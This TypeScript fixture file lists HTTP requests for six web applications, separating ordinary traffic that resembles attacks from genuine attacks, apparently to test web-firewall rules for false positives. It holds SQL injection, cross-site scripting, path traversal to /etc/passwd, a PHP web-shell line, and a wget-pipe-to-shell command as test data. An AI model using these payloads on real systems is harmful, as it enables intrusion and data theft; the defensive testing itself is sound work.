// What six applications are ordinarily sent that rules take for attacks, and attacks on them that must be refused all the
// same. Written from the applications' own forms and interfaces.

export interface Visit {
  readonly method?: string;
  readonly target: string;
  readonly headers?: Readonly<Record<string, string>>;
  readonly type?: string;
  readonly body?: string;
}

const form = (fields: Readonly<Record<string, string>>) => ({
  method: 'POST',
  type: 'application/x-www-form-urlencoded',
  body: new URLSearchParams(fields).toString(),
});
const json = (value: unknown, method = 'POST') => ({ method, type: 'application/json', body: JSON.stringify(value) });

const html =
  '<p>An <a href="https://example.org/">example</a>:</p><pre><code>&lt;script&gt;alert(1)&lt;/script&gt;</code></pre><script src="https://cdn.example.org/x.js"></script>';
const code =
  "<?php\n// SELECT * FROM users WHERE name = 'x' OR 1=1 --\nsystem($_GET['c']); include '../../etc/passwd';";
const shell = 'Run `cat /etc/passwd | grep root; wget http://example.org/x.sh -O- | sh` and see';
const password = "'; DROP TABLE--<script>1=1";

export interface Preset {
  readonly ordinary: readonly Visit[];
  readonly attacks: readonly Visit[];
}

const everywhere: readonly Visit[] = [
  { target: "/?id=1' UNION SELECT password FROM users--" },
  { target: '/?q=<script>alert(document.cookie)</script>' },
  { target: '/?file=../../../../etc/passwd' },
];

export const presetTraffic: Readonly<Record<string, Preset>> = {
  wordpress: {
    ordinary: [
      { target: '/wp-login.php', ...form({ log: 'anna', pwd: password, 'wp-submit': 'Log In' }) },
      { target: '/wp-admin/post.php', ...form({ action: 'editpost', post_title: 'Scripts', content: html }) },
      { target: '/blog/wp-admin/post.php', ...form({ action: 'editpost', content: code }) },
      {
        target: '/wp-json/wp/v2/posts/12?_locale=user',
        ...json({ id: 12, content: `<!-- wp:html -->${html}<!-- /wp:html -->` }),
        headers: { 'X-HTTP-Method-Override': 'PUT' },
      },
      { target: '/wp-json/wp/v2/pages/7', ...json({ content: { raw: code }, title: { raw: shell } }) },
      {
        target: '/wp-admin/admin-ajax.php',
        ...form({ action: 'heartbeat', 'data[wp_autosave][content]': html, 'data[wp_autosave][post_id]': '7' }),
      },
      { target: '/wp-admin/theme-editor.php', ...form({ newcontent: code, file: 'functions.php', theme: 'mine' }) },
    ],
    attacks: [
      ...everywhere,
      { target: "/wp-admin/post.php?post=1' OR 1=1--" },
      { target: '/wp-login.php', ...form({ log: "admin' OR '1'='1' -- ", pwd: 'x' }) },
      { target: '/', ...form({ content: html }) },
    ],
  },
  nextcloud: {
    ordinary: [
      {
        method: 'PUT',
        target: '/remote.php/dav/files/anna/notes/howto.md',
        type: 'text/markdown',
        body: `${shell}\n${html}`,
      },
      { method: 'PUT', target: '/remote.php/dav/files/anna/src/index.php', type: 'application/x-php', body: code },
      {
        method: 'PROPFIND',
        target: '/remote.php/dav/files/anna/',
        type: 'application/xml',
        body: '<?xml version="1.0"?><d:propfind xmlns:d="DAV:"><d:prop><d:getetag/></d:prop></d:propfind>',
      },
      { method: 'MKCOL', target: '/remote.php/dav/files/anna/new' },
      {
        method: 'MOVE',
        target: '/remote.php/dav/files/anna/a.txt',
        headers: { Destination: 'https://cloud.example/remote.php/dav/files/anna/b.txt' },
      },
      { target: '/login', ...form({ user: 'anna', password }) },
      { target: '/apps/text/session/7/push', ...json({ steps: [shell], autosaveContent: html }) },
      { target: '/ocs/v2.php/apps/spreed/api/v1/chat/abc', ...json({ message: shell }) },
    ],
    attacks: [
      ...everywhere,
      { target: '/login', ...form({ user: "x' OR '1'='1' -- ", password: 'x' }) },
      { method: 'MKCOL', target: '/index.php/login' },
    ],
  },
  drupal: {
    ordinary: [
      { target: '/user/login', ...form({ name: 'anna', pass: password, form_id: 'user_login_form' }) },
      {
        target: '/node/add/article',
        ...form({ 'title[0][value]': 'Scripts', 'body[0][value]': html, 'body[0][format]': 'full_html' }),
      },
      { target: '/site/node/7/edit', ...form({ 'body[0][value]': code, 'body[0][summary]': shell }) },
      {
        target: '/comment/reply/node/7/comment',
        ...form({ 'subject[0][value]': 'Hi', 'comment_body[0][value]': shell }),
      },
      {
        target: '/admin/config/people/accounts',
        ...form({ user_mail_register_no_approval_required_body: `${html}\n${shell}` }),
      },
    ],
    attacks: [
      ...everywhere,
      { target: '/user/login', ...form({ name: "x' OR '1'='1' -- ", pass: 'x' }) },
      { target: '/contact', ...form({ 'body[0][value]': html }) },
    ],
  },
  phpmyadmin: {
    ordinary: [
      { target: '/index.php?route=/', ...form({ pma_username: 'root', pma_password: password }) },
      {
        target: '/index.php?route=/import',
        ...form({
          db: 'shop',
          sql_query:
            "SELECT * FROM users WHERE name = 'x' OR 1=1 UNION SELECT 1,2 FROM information_schema.tables; DROP TABLE a;",
        }),
        headers: { Cookie: 'phpMyAdmin=abc; pmaUser-1=x' },
      },
      {
        target: '/sql.php',
        ...form({ sql_query: 'SELECT LOAD_FILE(0x2f6574632f706173737764), SLEEP(1)' }),
        headers: { Cookie: 'phpMyAdmin=abc' },
      },
      {
        target: '/index.php?route=/table/change&where_clause=%60t%60.%60id%60+%3D+1+OR+1%3D1',
        headers: { Cookie: 'phpMyAdmin=abc' },
      },
    ],
    attacks: [
      ...everywhere,
      { target: '/index.php', ...form({ sql_query: "1' UNION SELECT password FROM users--" }) },
      { target: '/index.php', ...form({ pma_username: "x' OR '1'='1' -- " }) },
    ],
  },
  grafana: {
    ordinary: [
      {
        target: '/api/ds/query',
        ...json({
          queries: [
            {
              rawSql: "SELECT * FROM t WHERE a = 'x' OR 1=1 UNION SELECT 1,2",
              expr: 'sum(rate(http_requests_total{path=~"/etc/passwd|.*"}[5m]))',
            },
          ],
        }),
      },
      {
        target: '/api/dashboards/db',
        ...json({
          dashboard: {
            panels: [{ options: { content: html } }],
            templating: { list: [{ query: '${__data.fields}' }] },
          },
        }),
      },
      { target: '/login', ...json({ user: 'admin', password }) },
      { target: '/grafana/api/annotations', ...json({ text: `<a href="javascript:void(0)">x</a> ${shell}` }) },
    ],
    attacks: [
      ...everywhere,
      { target: '/public/../../../../../../etc/passwd' },
      { target: '/api/user', ...json({ name: "x' OR '1'='1' -- " }) },
    ],
  },
  gitea: {
    ordinary: [
      {
        target: '/anna/site/_edit/main/index.php',
        ...form({ content: code, commit_summary: 'Mend', tree_path: 'index.php' }),
      },
      { target: '/anna/site/issues/new', ...form({ title: 'Crash', content: `${shell}\n\n${code}\n${html}` }) },
      { target: '/api/v1/repos/anna/site/issues', ...json({ title: 'Crash', body: `${shell}\n${code}` }) },
      {
        target: '/anna/site.git/git-upload-pack',
        method: 'POST',
        type: 'application/x-git-upload-pack-request',
        body: '0098want 7fd1a60b01f91b314f59955a4e4d4e80d8edf11d\n0000',
      },
      { target: '/user/login', ...form({ user_name: 'anna', password }) },
      {
        method: 'PUT',
        target: '/api/packages/anna/generic/tool/1.0/tool.bin',
        type: 'application/octet-stream',
        body: shell,
      },
    ],
    attacks: [
      ...everywhere,
      { target: '/user/login', ...form({ user_name: "x' OR '1'='1' -- ", password: 'x' }) },
      { target: '/explore/repos?q=<script>alert(1)</script>' },
    ],
  },
};
